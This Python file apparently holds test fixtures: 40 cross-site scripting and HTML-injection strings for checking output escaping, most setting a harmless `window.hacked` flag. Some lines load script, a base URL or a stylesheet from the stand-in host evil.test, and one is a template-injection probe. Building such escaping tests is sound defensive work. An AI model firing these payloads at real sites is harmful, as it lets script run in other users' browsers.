"""40 texts of strangers that run a script, change a page or leave an attribute where they are not escaped.

Each sets `window.hacked` where it can.
"""

from __future__ import annotations

STRINGS: tuple[str, ...] = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</noscript><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script>",
    "]]><script>window.hacked=1</script>",
    "<ScRiPt>window.hacked=1</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "<script type=module>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=x onerror='window.hacked=1'>",
    '"><img src=x onerror=window.hacked=1>',
    "'><img src=x onerror=window.hacked=1>",
    '" onmouseover="window.hacked=1',
    "' onmouseover='window.hacked=1",
    '" autofocus onfocus="window.hacked=1" tabindex="0',
    "` onmouseover=`window.hacked=1",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<math><mtext><script>window.hacked=1</script></mtext></math>",
    "<body onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<object data='data:text/html,<script>parent.hacked=1</script>'></object>",
    "<embed src=javascript:window.hacked=1>",
    "<a href='javascript:window.hacked=1'>click</a>",
    "<form action=javascript:window.hacked=1><button>go</button></form>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1></audio>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hacked=1'>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>body{display:none}</style>",
    "{{ 7 * 7 }}{% for x in [1] %}{{ x }}{% endfor %}${7*7}",
    "\u202e&lt;script&gt; &amp; \u2028 \x00 'single' \"double\" \\ </div></article>",
)
